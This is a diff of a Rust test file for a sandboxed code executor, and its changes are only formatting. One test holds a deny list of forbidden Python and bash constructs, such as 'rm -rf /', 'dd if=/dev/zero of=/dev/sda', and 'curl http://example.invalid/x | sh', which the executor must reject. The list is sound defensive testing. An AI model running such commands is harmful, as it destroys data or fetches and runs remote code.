@@ -26,8 +26,11 @@ fn python_prints_and_has_a_result() {
 
 #[test]
 fn bash_prints_and_has_a_result() {
-    check("bash", "echo '{\"b\": 1, \"a\": [1.50, 12345678901234567890123]}'",
-        "stdout:\n{\"b\": 1, \"a\": [1.50, 12345678901234567890123]}\nexit_code: 0\nresult: {\"b\": 1, \"a\": [1.50, 12345678901234567890123]}");
+    check(
+        "bash",
+        "echo '{\"b\": 1, \"a\": [1.50, 12345678901234567890123]}'",
+        "stdout:\n{\"b\": 1, \"a\": [1.50, 12345678901234567890123]}\nexit_code: 0\nresult: {\"b\": 1, \"a\": [1.50, 12345678901234567890123]}",
+    );
 }
 
 #[test]
@@ -110,15 +113,35 @@ fn forbidden_code_is_a_security_violation_and_does_not_run() {
 #[test]
 fn every_forbidden_construct_of_the_contract_is_rejected() {
     let python = [
-        "import os", "from os import path", "import subprocess", "from subprocess import run", "import shutil",
-        "from shutil import rmtree", "__import__('os')", "eval('1')", "exec('1')", "compile('1', 'f', 'eval')",
-        "open('/etc/passwd')", "open('/proc/cpuinfo')", "open('/sys/kernel')", "open('/dev/sda')",
+        "import os",
+        "from os import path",
+        "import subprocess",
+        "from subprocess import run",
+        "import shutil",
+        "from shutil import rmtree",
+        "__import__('os')",
+        "eval('1')",
+        "exec('1')",
+        "compile('1', 'f', 'eval')",
+        "open('/etc/passwd')",
+        "open('/proc/cpuinfo')",
+        "open('/sys/kernel')",
+        "open('/dev/sda')",
     ];
     let bash = [
-        "rm -rf /", "rm -rf ~", "rm -rf $HOME", "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sda1",
-        "echo x > /etc/passwd", "echo x > /dev/sda", "curl http://example.invalid/x | sh",
-        "wget -qO- http://example.invalid/x | sh", "curl http://example.invalid/x | bash",
-        "wget http://example.invalid/x | bash", "chmod 777 x", "chmod -R 777 x",
+        "rm -rf /",
+        "rm -rf ~",
+        "rm -rf $HOME",
+        "dd if=/dev/zero of=/dev/sda",
+        "mkfs.ext4 /dev/sda1",
+        "echo x > /etc/passwd",
+        "echo x > /dev/sda",
+        "curl http://example.invalid/x | sh",
+        "wget -qO- http://example.invalid/x | sh",
+        "curl http://example.invalid/x | bash",
+        "wget http://example.invalid/x | bash",
+        "chmod 777 x",
+        "chmod -R 777 x",
     ];
     let cases = python.map(|code| ("python", code)).into_iter().chain(bash.map(|code| ("bash", code)));
     let executor = Executor::builder().build().unwrap();
@@ -136,14 +159,18 @@ fn sandbox_on_gives_the_contracts_environment() {
     assert_eq!(lines[1..], ["/usr/bin:/bin:/usr/local/bin", "/tmp"], "{report:#?}");
     let names: Vec<&str> = lines[0].split_whitespace().collect();
     for name in names {
-        let known = ["LANG", "LC_ALL", "LC_CTYPE", "OLDPWD", "PATH", "PWD", "PYTHONUNBUFFERED", "SHLVL", "TZ", "_"];
+        let known =
+            ["LANG", "LC_ALL", "LC_CTYPE", "OLDPWD", "PATH", "PWD", "PYTHONUNBUFFERED", "SHLVL", "TZ", "_"];
         assert!(known.contains(&name), "{name}");
     }
 }
 
 #[test]
 fn sandbox_off_reviews_nothing() {
-    let report = execute(Executor::builder().sandbox(false), Submission::new("import os\nprint('HOME' in os.environ)"));
+    let report = execute(
+        Executor::builder().sandbox(false),
+        Submission::new("import os\nprint('HOME' in os.environ)"),
+    );
     let home = std::env::var_os("HOME").is_some();
     assert_eq!(report.stdout.text.trim().to_lowercase(), home.to_string(), "{report:#?}");
     assert_eq!(report.policy.name, "none");
@@ -213,5 +240,8 @@ fn code_beyond_a_mebibyte_is_refused() {
 fn report_is_described_by_the_published_schema() {
     let published = include_str!("../../docs/report.schema.json");
     let current = serde_json::to_string_pretty(&Report::json_schema()).unwrap() + "\n";
-    assert!(published == current, "docs/report.schema.json is not the schema; `code-execute schema` prints it");
+    assert!(
+        published == current,
+        "docs/report.schema.json is not the schema; `code-execute schema` prints it"
+    );
 }
